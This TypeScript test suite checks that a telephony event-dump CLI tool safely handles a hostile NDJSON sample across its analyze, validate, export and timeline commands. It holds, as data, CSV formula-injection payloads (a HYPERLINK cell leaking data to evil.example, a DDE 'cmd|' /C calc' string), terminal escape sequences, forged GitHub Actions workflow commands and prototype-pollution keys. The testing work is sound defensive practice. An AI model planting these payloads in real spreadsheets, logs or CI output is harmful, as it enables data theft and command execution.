// Hostile input end to end: samples/hostile.ndjson (see samples/README.md) through the built bin, every
// command and format. Every figure below was counted by hand from the sample's lines; the comments say how.
// Also: the accounting identity on every sample, the two lines too big to keep in the repository (a 50 MB
// line, an object with 100,000 keys), and in-process checks of pathological lines and bounded memory.
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { fileURLToPath } from "node:url";
import { XMLParser } from "fast-xml-parser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CliIO, main } from "../../src/cli.js";
import { analyze } from "../../src/commands/analyze.js";
import type { InputSource } from "../../src/ingest/read.js";
import { DEFAULT_SESSIONIZE_OPTIONS } from "../../src/ingest/sessionize.js";
import { decodeLine, invalidUtf8Offset } from "../../src/ingest/utf8.js";
import { createEventValidator } from "../../src/ingest/validate.js";
import { type BinRun, RING_STATES, runBin, states } from "../support/bin.js";
import {
  expectAccounted,
  expectGithubCommands,
  expectNoRawControls,
  expectOnlyOwnColours,
  expectRectangular,
  expectWellFormedXml,
  isFormulaCell,
  loneSurrogatesIn,
  parseCsv,
} from "../support/safety.js";

const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const HOSTILE = "samples/hostile.ndjson";
const TIMEOUT = 60_000;

type Run = BinRun;

/** Runs the built bin from the repo root with NO_COLOR=1 unless env says otherwise. */
const run = (args: string[], env: Record<string, string | undefined> = {}): Promise<Run> =>
  runBin(args, { env });

/** A run that must succeed with exit code `code` and nothing on stderr. */
async function ok(args: string[], code = 0, env: Record<string, string | undefined> = {}): Promise<string> {
  const result = await run(args, env);
  expect(result.stderr).toBe("");
  expect(result.code).toBe(code);
  return result.stdout;
}

// The hanged values of the nine complete calls, as ranked: +37120000001 twice (toString, line 25, and
// s-11, line 55), then the seven others once each, in code-unit order (tab 0x09, ESC 0x1b, = 0x3d,
// @ 0x40, A 0x41, _ 0x5f, a 0x61).
const HANGED_VALUES: [string, number][] = [
  ["+37120000001", 2],
  ["\t-2+3", 1],
  ["\u001b[31m+37120000205\u001b[0m", 1],
  ['=HYPERLINK("http://evil.example/?d="&A1,"click")', 1],
  ["@SUM(1+1)*cmd|' /C calc'!A0", 1],
  ["ANSWER", 1],
  ["__proto__", 1],
  ['a,"b"\r\nc%0A::warning::x', 1],
];
// The sip hang-ups: __proto__ (line 19), s-6 (45), s-9 (50); c 0x63 < u 0x75 < U+009B.
const HANGED_USERS: [string, number][] = [
  ["constructor", 1],
  ["u\u202egnp.exe", 1],
  ["\u009b31mred", 1],
];

// Every problem of the sample as [line, code] (see samples/README.md, hostile.ndjson, line by line).
const PROBLEMS: [number, string][] = [
  [4, "invalid-json"], // a raw NUL byte between two attributes
  [10, "invalid-json"], // raw ESC sequences, not JSON
  [13, "conflicting-duplicate"], // id h1-02 again in session __proto__, another call_id
  [16, "invalid-utf8"], // bytes FF FE inside session_id
  [22, "wrong-type"], // "id": 9007199254740993, beyond 2^53
  [22, "wrong-type"], // "participants": 1e400, beyond a double
  [28, "bad-value"], // RINGRESULT state "__proto__"
  [34, "not-an-object"], // a JSON string
  [35, "not-an-object"], // an array nested 5,000 deep
  [46, "bad-value"], // direction "\r\n::error::pwned</failure>&\uffff"
  [47, "incomplete-session"], // START only, session s-7-%0A::add-mask::x,y:z-\ud800
  [47, "unpaired-surrogate"], // that session id holds a lone surrogate (a warning; the event is valid)
  [48, "incomplete-session"], // START only, session s-8\r\n::error file=...
  [54, "late-event"], // a RING of toString after line 53 moved the watermark 17 minutes past its COMPLETED
];

interface Report {
  input: { lines: number; blank: number; events: number; invalid: number; duplicates: number; late: number };
  [key: string]: unknown;
}

const tmp = await mkdtemp(join(tmpdir(), "teltel-hostile-"));
afterAll(() => rm(tmp, { recursive: true, force: true }));

describe("analyze on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  let report: Record<string, unknown> & Report;
  let jsonText = "";
  beforeAll(async () => {
    jsonText = await ok(["analyze", "--format", "json", HOSTILE]);
    report = JSON.parse(jsonText);
  }, TIMEOUT);

  it("accounts for every line: 55 = 2 blank + 42 events + 9 invalid + 1 duplicate + 1 late", () => {
    // Blank: 7 (spaces) and 31 (CRLF only). Invalid: 4, 10, 13, 16, 22, 28, 34, 35, 46. Duplicate: 24 (line
    // 23 with its keys reversed). Late: 54. Events: the other 42 — sessions __proto__ 10, constructor 4,
    // toString 4, hasOwnProperty 4, s-5 2, s-6 10, s-7 1, s-8 1, s-9 2, s-10 2, s-11 2.
    expect(report.input).toEqual({
      files: 1,
      fileNames: [HOSTILE],
      lines: 55,
      blank: 2,
      events: 42,
      invalid: 9,
      duplicates: 1,
      late: 1,
      timeRange: { from: "2026-03-05T09:00:00.000Z", to: "2026-03-05T09:20:03.000Z" },
    });
    expectAccounted(report.input);
  });

  it("counts __proto__, constructor, toString and hasOwnProperty sessions like any other", () => {
    // 11 sessions; s-7 and s-8 never complete. In: __proto__ (answered), toString, s-5, s-10, s-11.
    // Out: constructor, hasOwnProperty, s-6 (answered), s-9.
    expect(report.sessions).toEqual({
      total: 11,
      complete: 9,
      incomplete: 2,
      missingStart: 0,
      missingCompleted: 2,
    });
    expect(report.calls).toEqual({
      total: 9,
      answered: 2,
      answerRate: 2 / 9,
      byDirection: {
        inbound: { total: 5, answered: 1, answerRate: 1 / 5 },
        outbound: { total: 4, answered: 1, answerRate: 1 / 4 },
      },
    });
    // sip: __proto__, s-6, s-9; phone: the other six.
    expect(report.hangupBy).toEqual({ phone: 6, sip: 3 });
    expect(report.topHangedValues).toEqual(
      HANGED_VALUES.map(([value, count]) => ({ value, count, share: count / 9 })),
    );
    expect(report.topHangedUsers).toEqual(
      HANGED_USERS.map(([value, count]) => ({ value, count, share: count / 9 })),
    );
  });

  it("counts ring results by state, and a hanged_value ANSWER is not a ring result", () => {
    // ANSWER: __proto__ (in), s-6 (out); BUSY: constructor (out); NOANSWER: toString (in); CANCEL:
    // hasOwnProperty (out). Line 28's state "__proto__" is invalid; line 54 (late) is a RING.
    expect(report.ringResults).toEqual(states({ ANSWER: 2, BUSY: 1, NOANSWER: 1, CANCEL: 1 }));
    expect(report.ringResultsByDirection).toEqual({
      inbound: states({ ANSWER: 1, NOANSWER: 1 }),
      outbound: states({ ANSWER: 1, BUSY: 1, CANCEL: 1 }),
    });
  });

  it("lists every problem with its reason, pathological lines included", () => {
    const problems = report.problems as { line: number; code: string; message: string }[];
    expect(problems.map((p) => [p.line, p.code])).toEqual(PROBLEMS);
    expect(report.problemCounts).toEqual({
      "bad-value": 2,
      "conflicting-duplicate": 1,
      "incomplete-session": 2,
      "invalid-json": 2,
      "invalid-utf8": 1,
      "late-event": 1,
      "not-an-object": 2,
      "unpaired-surrogate": 1,
      "wrong-type": 2,
    });
    const message = (line: number, code: string) =>
      problems.find((p) => p.line === line && p.code === code)?.message ?? "";
    // Offset 103: `{"event":"START","id":"hx-01","timestamp":"2026-03-05T09:01:00Z","accountcode":"10452",` is
    // 87 bytes and `"session_id":"s-` 16 more: the bad byte is the 104th, at offset 103 (column 104).
    expect(message(16, "invalid-utf8")).toBe(
      "line is not valid UTF-8: byte 0xff at byte offset 103 starts no valid character (was the dump written in another encoding?)",
    );
    expect(problems.filter((p) => p.line === 22).map((p) => p.message)).toEqual([
      'START "id" must be a string or a whole number up to 2^53 - 1; got 9007199254740992, a number beyond 2^53 whose last digits were lost in reading (send ids as strings)',
      'START "participants" must be an integer; got a number too large for a double (read as Infinity)',
    ]);
    expect(message(35, "not-an-object")).toBe("line is a JSON array, not an event object");
    // The value is kept exactly in JSON: a raw CR LF in a session id; a lone surrogate, which I-JSON cannot
    // hold, becomes U+FFFD, and the line gets a warning saying so.
    expect(message(48, "incomplete-session")).toContain(
      "session s-8\r\n::error file=evil.ndjson,line=1::forged ",
    );
    expect(message(47, "incomplete-session")).toContain("session s-7-%0A::add-mask::x,y:z-\ufffd ");
    expect(message(47, "unpaired-surrogate")).toBe(
      'the value of "session_id" holds an unpaired surrogate \\ud800, which no UTF-8 text can hold; JSON outputs write U+FFFD in its place',
    );
  });

  it("JSON holds the exact values but writes C1, bidi and U+FFFF as \\u escapes, a lone surrogate as U+FFFD", () => {
    expectNoRawControls(jsonText, "analyze json");
    expect(jsonText).toContain('"value": "u\\u202egnp.exe"');
    expect(jsonText).toContain('"value": "\\u009b31mred"');
    expect(jsonText).toContain("z-\\ufffd has no COMPLETED");
    // Every key and string as read back is well-formed Unicode (the message's "\\ud800" is six ASCII characters).
    expect(loneSurrogatesIn(jsonText)).toEqual([]);
    expect(jsonText).toContain("</failure>&\\uffff");
  });
});

describe("analyze table on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  it("shows control characters escaped, and only its own colours with FORCE_COLOR", async () => {
    const [plain, colored] = await Promise.all([
      ok(["analyze", HOSTILE]),
      ok(["analyze", HOSTILE], 0, { NO_COLOR: undefined, FORCE_COLOR: "1" }),
    ]);
    expectOnlyOwnColours(colored, plain, "analyze table");
    expect(colored).toContain("\u001b[1m");
    for (const shown of [
      "│ \\x09-2+3 ",
      "│ \\x1b[31m+37120000205\\x1b[0m ",
      '│ a,"b"\\x0d\\x0ac%0A::warning::x ',
      "│ u\\u202egnp.exe ",
      "│ \\x9b31mred ",
      "│ __proto__ ",
      "│ constructor ",
      "unexpected token '\\x1b'",
      "session s-8\\x0d\\x0a::error file=evil.ndjson,line=1::forged has no COMPLETED",
      "z-\\ud800 has no COMPLETED",
      "</failure>&\\uffff",
    ]) {
      expect(plain).toContain(shown);
    }
    // The input table shows the whole accounting.
    for (const row of ["│ lines         │ 55 ", "│ blank lines   │ 2 ", "│ events used   │ 42 "]) {
      expect(plain).toContain(row);
    }
  });
});

describe("analyze CSV on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  it("quotes every cell correctly and keeps the values exact when written to a pipe", async () => {
    const csv = parseCsv(await ok(["analyze", "--format", "csv", HOSTILE]));
    expectRectangular(csv, "tidy csv");
    const values = csv.filter((row) => row[0] === "hanged-values" && row[3] === "calls");
    expect(values.map((row) => [row[2], Number(row[4])])).toEqual(HANGED_VALUES);
    const wide = parseCsv(await ok(["analyze", "--format", "csv", "--table", "hanged-values", HOSTILE]));
    expect(wide).toEqual([
      ["hanged_value", "calls", "share %"],
      ...HANGED_VALUES.map(([value, count]) => [value, String(count), count === 2 ? "22.2" : "11.1"]),
    ]);
  });

  it("--excel-safe puts ' before every formula cell, phone numbers included, and changes nothing else", async () => {
    const text = await ok([
      "analyze",
      "--format",
      "csv",
      "--excel-safe",
      "--table",
      "hanged-values",
      HOSTILE,
    ]);
    expect(text).toBe(
      [
        "hanged_value,calls,share %",
        "'+37120000001,2,22.2",
        "'\t-2+3,1,11.1",
        "\u001b[31m+37120000205\u001b[0m,1,11.1",
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",1,11.1`,
        "'@SUM(1+1)*cmd|' /C calc'!A0,1,11.1",
        "ANSWER,1,11.1",
        "__proto__,1,11.1",
        '"a,""b""\r\nc%0A::warning::x",1,11.1',
        "",
      ].join("\n"),
    );
    const [exact, safe] = await Promise.all([
      ok(["analyze", "--format", "csv", HOSTILE]),
      ok(["analyze", "--format", "csv", "--excel-safe", HOSTILE]),
    ]);
    const exactCells = parseCsv(exact);
    const safeCells = parseCsv(safe);
    expect(safeCells.flat().filter(isFormulaCell)).toEqual([]);
    expect(safeCells).toEqual(exactCells.map((row) => row.map((c) => (isFormulaCell(c) ? `'${c}` : c))));
    // The formula cells of the sample: the four hanged values, in the key and value columns of each row.
    expect(exactCells.flat().filter(isFormulaCell).length).toBeGreaterThanOrEqual(4);
  });

  it("--excel-safe without --format csv is a usage error", async () => {
    const result = await run(["analyze", "--excel-safe", HOSTILE]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe("");
    expect(result.stderr).toBe("teltel-events: --excel-safe only applies to --format csv.\n");
  });

  it("CSV printed on a terminal shows control characters escaped", async () => {
    const out: string[] = [];
    const io: CliIO = {
      stdout: { write: (text: string) => out.push(text), isTTY: true },
      stderr: { write: () => true },
      stdin: Object.assign(Readable.from([]), { isTTY: true }),
      env: { NO_COLOR: "1" },
      writeFile: async () => {},
    };
    expect(await main(["analyze", "--format", "csv", "--table", "hanged-values", HOSTILE], io)).toBe(0);
    const text = out.join("");
    expectNoRawControls(text, "csv on a terminal");
    expect(text).toContain("\\x1b[31m+37120000205\\x1b[0m,1,11.1\n");
    expect(text).toContain('"a,""b""\\x0d\\x0ac%0A::warning::x",1,11.1\n');
  });
});

describe("validate on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  // 14 findings: the 14 problems of analyze; errors but the two incomplete sessions, the late event and the
  // unpaired surrogate.
  it("text: escaped values, exact summary, exit 1", async () => {
    const [plain, colored] = await Promise.all([
      ok(["validate", HOSTILE], 1),
      ok(["validate", HOSTILE], 1, { NO_COLOR: undefined, FORCE_COLOR: "1" }),
    ]);
    expectOnlyOwnColours(colored, plain, "validate text", false);
    const lines = plain.trimEnd().split("\n");
    expect(lines.filter((l) => l.startsWith(`${HOSTILE}:`))).toHaveLength(14);
    expect(lines.slice(-3)).toEqual([
      // valid = 42 events + 1 duplicate + 1 late
      "Checked 1 file: 55 lines — 44 valid, 9 invalid, 2 blank; 1 duplicate, 1 late; 11 sessions.",
      "Findings by code: bad-value 2, conflicting-duplicate 1, incomplete-session 2, invalid-json 2, invalid-utf8 1, late-event 1, not-an-object 2, unpaired-surrogate 1, wrong-type 2.",
      "Invalid: 10 errors, 4 warnings.",
    ]);
    expect(plain).toContain(`${HOSTILE}:16:104  error    invalid-utf8  line is not valid UTF-8`);
  });

  it("json: the exact summary and every finding", async () => {
    const result = JSON.parse(await ok(["validate", "--format", "json", HOSTILE], 1));
    expect(result.valid).toBe(false);
    expect(result.summary).toMatchObject({
      lines: 55,
      blank: 2,
      valid: 44,
      invalid: 9,
      duplicates: 1,
      late: 1,
      sessions: 11,
      errors: 10,
      warnings: 4,
    });
    expect(result.findings.map((f: { line: number; code: string }) => [f.line, f.code])).toEqual(PROBLEMS);
    expect(result.rules["invalid-utf8"]).toBe("error");
  });

  it("github: one workflow command per finding; no value starts a command or breaks a line", async () => {
    const out = await ok(["validate", "--format", "github", HOSTILE], 1);
    expectGithubCommands(out, 14);
    const lines = out.split("\n");
    expect(lines.filter((l) => l.startsWith("::"))).toHaveLength(14);
    expect(lines).toContain(
      `::warning file=${HOSTILE},line=47,title=incomplete-session::session s-7-%250A::add-mask::x,y:z-\\ud800 has no COMPLETED (the dump may end mid-call)`,
    );
    expect(lines).toContain(
      `::warning file=${HOSTILE},line=48,title=incomplete-session::session s-8\\x0d\\x0a::error file=evil.ndjson,line=1::forged has no COMPLETED (the dump may end mid-call)`,
    );
    expect(lines).toContain(
      `::error file=${HOSTILE},line=46,title=bad-value::RING "direction" must be one of inbound, outbound; got "\\r\\n::error::pwned</failure>&\\uffff"`,
    );
  });

  it("an error naming a hostile path shows it escaped", async () => {
    const dir = join(tmp, "dir\u001b]0;x\u0007.ndjson");
    await mkdir(dir);
    const result = await run(["validate", dir]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe("");
    expect(result.stderr).toBe(
      `teltel-events: ${tmp}/dir\\x1b]0;x\\x07.ndjson: is a directory, not an event dump.\n`,
    );
  });

  it("github: a hostile file name is escaped in the file property and in messages", async () => {
    const name = join(tmp, "e,v:i%l\u001b[2J\n::warning::x.ndjson");
    writeFileSync(name, readFileSync(join(ROOT, HOSTILE)));
    const out = await ok(["validate", "--format", "github", name], 1);
    expectGithubCommands(out, 14);
    const escaped = `${tmp}/e%2Cv%3Ai%25l\\x1b[2J\\x0a%3A%3Awarning%3A%3Ax.ndjson`;
    expect(out.split("\n")[0]).toBe(
      `::error file=${escaped},line=4,col=18,title=invalid-json::not valid JSON: expected double-quoted property name at column 18`,
    );
    // In a message, a file name is data: only %, CR and LF are special there (and they were shown escaped).
    expect(out).toContain(`was already seen at ${tmp}/e,v:i%25l\\x1b[2J\\x0a::warning::x.ndjson:3 with`);
  });

  it("junit: well-formed XML, markup inert, control characters visible", async () => {
    const out = await ok(["validate", "--format", "junit", HOSTILE], 1);
    expectWellFormedXml(out);
    expectNoRawControls(out, "junit");
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "" }).parse(out);
    const suite = doc.testsuites.testsuite;
    expect(suite.name).toBe(HOSTILE);
    // Failed rules: invalid-utf8, invalid-json, not-an-object, bad-value, wrong-type, conflicting-duplicate.
    expect(suite.failures).toBe("6");
    const badValue = suite.testcase.find(
      (c: { failure?: { type: string } }) => c.failure?.type === "bad-value",
    );
    expect(badValue.failure["#text"]).toContain(
      `${HOSTILE}:46 RING "direction" must be one of inbound, outbound; got "\\r\\n::error::pwned</failure>&\\uffff"`,
    );
    expect(out).toContain("pwned&lt;/failure&gt;&amp;\\uffff");
  });
});

describe("prototype-like RINGRESULT states with a schema that allows any state", { timeout: TIMEOUT }, () => {
  let dir = "";
  beforeAll(async () => {
    dir = await mkdtemp(join(tmp, "schema-"));
    const schema = JSON.parse(readFileSync(join(ROOT, "schemas/teltel-event.schema.json"), "utf8"));
    schema.$defs.RINGRESULT.properties.state = { type: "string" };
    await writeFile(join(dir, "teltel-event.schema.json"), JSON.stringify(schema));
  });

  it("counts state __proto__ as a state of its own, in JSON, table and CSV", async () => {
    const report = JSON.parse(await ok(["analyze", "--format", "json", "--schema", dir, HOSTILE]));
    // Line 28 (outbound, session hasOwnProperty) is now valid: 43 events, 8 invalid; six ring results.
    expect(report.input).toMatchObject({
      lines: 55,
      blank: 2,
      events: 43,
      invalid: 8,
      duplicates: 1,
      late: 1,
    });
    expect(Object.keys(report.ringResults)).toEqual([...RING_STATES, "__proto__"]);
    expect(Object.getOwnPropertyDescriptor(report.ringResults, "__proto__")?.value).toBe(1);
    expect(Object.getOwnPropertyDescriptor(report.ringResultShares, "__proto__")?.value).toBe(1 / 6);
    expect(Object.hasOwn(report.ringResultsByDirection.inbound, "__proto__")).toBe(false);
    expect(Object.getOwnPropertyDescriptor(report.ringResultsByDirection.outbound, "__proto__")?.value).toBe(
      1,
    );
    expect(Object.getPrototypeOf(report.ringResults)).toBe(Object.prototype);
    const table = await ok(["analyze", "--schema", dir, HOSTILE]);
    expect(table).toContain("RINGRESULT states (6 results)");
    expect(table).toMatch(/│ __proto__ +│ +1 │ +16\.7% │ +0 │ +1 │/);
    const csv = await ok(["analyze", "--format", "csv", "--table", "ring-results", "--schema", dir, HOSTILE]);
    expect(csv.split("\n")).toContain("__proto__,1,16.7,0,1");
    expect(csv.split("\n")).toContain("ANSWER,2,33.3,1,1");
  });
});

describe("the lines too big for the repository: a 50 MB line and an object with 100,000 keys", {
  timeout: TIMEOUT,
}, () => {
  let big = "";
  beforeAll(async () => {
    big = join(tmp, "hostile-big.ndjson");
    const keys: string[] = [];
    for (let i = 0; i < 100_000; i += 1) keys.push(`"k${i.toString(36)}":0`);
    const manyKeys = Buffer.from(`{${keys.join(",")}}\n`);
    expect(manyKeys.length).toBeLessThan(1_048_576);
    await writeFile(
      big,
      Buffer.concat([
        readFileSync(join(ROOT, HOSTILE)),
        manyKeys, // line 56
        Buffer.alloc(50 * 1024 * 1024, "x"), // line 57
        Buffer.from("\n"),
      ]),
    );
  }, TIMEOUT);

  it("both are invalid with a reason; the other lines count as before, in one thread or several", async () => {
    // Two worker threads and one thread must give the same report.
    const [auto, one] = await Promise.all([
      ok(["analyze", "--format", "json", "--threads", "2", big]),
      ok(["analyze", "--format", "json", "--threads", "1", big]),
    ]);
    const report = JSON.parse(auto);
    expect(JSON.parse(one)).toEqual(report);
    expect(report.input).toMatchObject({
      lines: 57,
      blank: 2,
      events: 42,
      invalid: 11,
      duplicates: 1,
      late: 1,
    });
    expectAccounted(report.input);
    const problems = report.problems.map((p: { line: number; code: string }) => [p.line, p.code]);
    expect(problems).toEqual([...PROBLEMS, [56, "missing-event"], [57, "line-too-long"]]);
    expect(report.problems.at(-1).message).toBe("line is 52428800 bytes, over the --max-line-bytes limit");
    expect(report.topHangedValues).toHaveLength(8);
  });
});

// The eleven sessions of the sample, in the ASCII order of their ids.
const S5 = "s-5-\u001b]0;pwned\u0007-\u001b[2J";
const S7 = "s-7-%0A::add-mask::x,y:z-\ud800";
const S8 = "s-8\r\n::error file=evil.ndjson,line=1::forged";
const SESSIONS = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "s-10",
  "s-11",
  S5,
  "s-6",
  S7,
  S8,
  "s-9",
  "toString",
].sort();

describe("export on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  it("csv: one well-quoted row per session, values exact (a lone surrogate written as \\ud800)", async () => {
    const rows = parseCsv(await ok(["export", HOSTILE]));
    expectRectangular(rows, "export csv");
    const column = (rows[0] as string[]).indexOf("session_id");
    expect(
      rows
        .slice(1)
        .map((row) => row[column])
        .sort(),
    ).toEqual(SESSIONS.map((id) => id.replace("\ud800", "\\ud800")).sort());
  });

  it("csv --excel-safe: no formula cell left", async () => {
    const rows = parseCsv(await ok(["export", "--excel-safe", HOSTILE]));
    expect(rows.flat().filter(isFormulaCell)).toEqual([]);
    const column = (rows[0] as string[]).indexOf("hanged_value");
    expect(rows.map((row) => row[column])).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"click")`);
    expect(rows.map((row) => row[column])).toContain("'+37120000001");
  });

  it("json and ndjson: exact values, nothing raw", async () => {
    const [json, ndjson] = await Promise.all([
      ok(["export", "--format", "json", HOSTILE]),
      ok(["export", "--format", "ndjson", HOSTILE]),
    ]);
    expectNoRawControls(json, "export json");
    expectNoRawControls(ndjson, "export ndjson");
    const records = JSON.parse(json) as { session_id: string }[];
    // I-JSON: the lone surrogate of s-7 is U+FFFD.
    expect(records.map((r) => r.session_id).sort()).toEqual(
      SESSIONS.map((id) => id.replace("\ud800", "\ufffd")).sort(),
    );
    const lines = ndjson.trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line))).toEqual(records);
  });
});

describe("timeline on samples/hostile.ndjson", { timeout: TIMEOUT }, () => {
  it("text and json of session __proto__", async () => {
    const [plain, colored, json] = await Promise.all([
      ok(["timeline", "__proto__", HOSTILE]),
      ok(["timeline", "__proto__", HOSTILE], 0, { NO_COLOR: undefined, FORCE_COLOR: "1" }),
      ok(["timeline", "--format", "json", "__proto__", HOSTILE]),
    ]);
    expectOnlyOwnColours(colored, plain, "timeline text");
    expect(plain).toContain("Session __proto__: inbound standard call, account toString, complete");
    expectNoRawControls(json, "timeline json");
    expect(JSON.parse(json).call.session_id).toBe("__proto__");
  });

  it("a session id full of escape sequences is shown escaped", async () => {
    const text = await ok(["timeline", S5, HOSTILE]);
    expectNoRawControls(text, "timeline text");
    expect(text).toContain("Session s-5-\\x1b]0;pwned\\x07-\\x1b[2J: inbound standard call");
    expect(text).toContain("\\x1b[31m+37120000205\\x1b[0m");
  });

  it("an unknown hostile session id is named escaped on stderr", async () => {
    const result = await run(["timeline", "nope\u001b]0;x\u0007", HOSTILE]);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe("");
    expect(result.stderr).toBe('teltel-events: no session "nope\\x1b]0;x\\x07" in the input.\n');
  });
});

describe("every line accounted for, on every sample", { timeout: TIMEOUT }, () => {
  const samples = readdirSync(join(ROOT, "samples")).filter((name) => name.endsWith(".ndjson"));

  it.each(samples)("%s", async (name) => {
    const [report, result] = await Promise.all([
      ok(["analyze", "--format", "json", `samples/${name}`]).then((text) => JSON.parse(text)),
      run(["validate", "--format", "json", `samples/${name}`]).then((r) => JSON.parse(r.stdout)),
    ]);
    expectAccounted(report.input, name);
    const s = result.summary;
    expect(s.lines).toBe(report.input.lines);
    expect(s.blank + s.valid + s.invalid).toBe(s.lines);
    expect(s.valid).toBe(report.input.events + report.input.duplicates + report.input.late);
  });
});

// ---------------------------------------------------------------------------------------------------------
// In-process: pathological lines through the real pipeline.

const validator = createEventValidator(
  JSON.parse(readFileSync(join(ROOT, "schemas/teltel-event.schema.json"), "utf8")) as Record<string, unknown>,
);
const OPTIONS = {
  validator,
  maxLineBytes: 1_048_576,
  maxProblems: 100,
  sessionize: DEFAULT_SESSIONIZE_OPTIONS,
};

function input(chunks: Iterable<Buffer> | AsyncIterable<Buffer>): InputSource {
  return { name: "x.ndjson", open: () => Readable.from(chunks) };
}

const START =
  '"event":"START","id":"e1","timestamp":"2026-03-05T09:00:00Z","accountcode":"1","session_id":"s1","direction":"inbound","type":"standard"';

describe("pathological lines, in-process", { timeout: TIMEOUT }, () => {
  it("a 200 MB line is skipped without being buffered", async () => {
    const chunk = Buffer.alloc(1 << 20, "a");
    const before = process.memoryUsage().arrayBuffers;
    let peak = 0;
    async function* chunks(): AsyncGenerator<Buffer> {
      for (let i = 0; i < 200; i += 1) {
        peak = Math.max(peak, process.memoryUsage().arrayBuffers - before);
        yield chunk;
      }
      yield Buffer.from(`\n{${START}}\n`);
    }
    const report = await analyze([input(chunks())], OPTIONS);
    expect(report.input).toMatchObject({ lines: 2, invalid: 1, events: 1 });
    expect(report.problems[0]?.message).toBe("line is 209715200 bytes, over the --max-line-bytes limit");
    // Buffering the line would hold 200 MB; reading it holds a chunk or two.
    expect(peak).toBeLessThan(32 * 1024 * 1024);
  });

  it("a valid event with 100,000 extra attributes is an event", async () => {
    const keys: string[] = [];
    for (let i = 0; i < 100_000; i += 1) keys.push(`"x${i.toString(36)}":0`);
    const report = await analyze([input([Buffer.from(`{${START},${keys.join(",")}}\n`)])], OPTIONS);
    expect(report.input).toMatchObject({ lines: 1, events: 1, invalid: 0 });
  });

  it("nesting 500,000 deep is no stack overflow: an array is not an object, deep data is allowed", async () => {
    const deepArray = `${"[".repeat(500_000)}${"]".repeat(500_000)}`;
    const deepData = `{${START},"data":{"x":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}}}`;
    const report = await analyze([input([Buffer.from(`${deepArray}\n${deepData}\n`)])], OPTIONS);
    expect(report.input).toMatchObject({ lines: 2, invalid: 1, events: 1 });
    expect(report.problems[0]).toMatchObject({ line: 1, code: "not-an-object" });
  });

  it("NUL bytes: raw ones make invalid JSON, an escaped one is a value", async () => {
    const lines = [`{${START.replace('"s1"', '"s\u0000"')}}`, `{${START.replace('"s1"', '"s\\u0000"')}}`];
    const report = await analyze([input([Buffer.from(`${lines.join("\n")}\n`)])], OPTIONS);
    expect(report.input).toMatchObject({ lines: 2, invalid: 1, events: 1 });
    expect(report.problems.map((p) => [p.line, p.code])).toEqual([
      [1, "invalid-json"],
      [2, "incomplete-session"],
    ]);
    expect(report.problems[0]?.message).toBe(
      "not valid JSON: bad control character in string literal at column 96",
    );
  });

  it.each([
    ["a stray continuation byte", [0x80], 0],
    ["an overlong slash", [0xc0, 0xaf], 0],
    ["a UTF-16 surrogate in UTF-8", [0xed, 0xa0, 0x80], 0],
    ["a code point above U+10FFFF", [0xf4, 0x90, 0x80, 0x80], 0],
    ["a sequence cut short", [0xe2, 0x82, 0x41], 0],
    ["Latin-1 after valid UTF-8", [0xc3, 0xa9, 0xe9], 2],
    ["a lone lead byte at the end", [0x41, 0xf0], 1],
  ])("%s is invalid-utf8 at its first byte", async (_what, bytes, at) => {
    expect(invalidUtf8Offset(Buffer.from(bytes), 0, bytes.length)).toBe(at);
    const prefix = Buffer.from(`{${START.replace('"s1"', '"s')}`);
    const line = Buffer.concat([prefix, Buffer.from(bytes), Buffer.from('"}\n')]);
    const report = await analyze([input([line])], OPTIONS);
    expect(report.input).toMatchObject({ lines: 1, invalid: 1, events: 0 });
    const offset = prefix.length + at;
    expect(report.problems[0]).toMatchObject({ code: "invalid-utf8", line: 1 });
    expect(report.problems[0]?.message).toContain(`at byte offset ${offset} `);
  });

  it("valid multi-byte UTF-8 and a literal U+FFFD are fine", async () => {
    const text = "é€😀\ufffd";
    expect(decodeLine(Buffer.from(text), 0, Buffer.byteLength(text))).toEqual({ text });
    const report = await analyze(
      [input([Buffer.from(`{${START.replace('"s1"', `"${text}"`)}}\n`)])],
      OPTIONS,
    );
    expect(report.input).toMatchObject({ lines: 1, invalid: 0, events: 1 });
  });
});
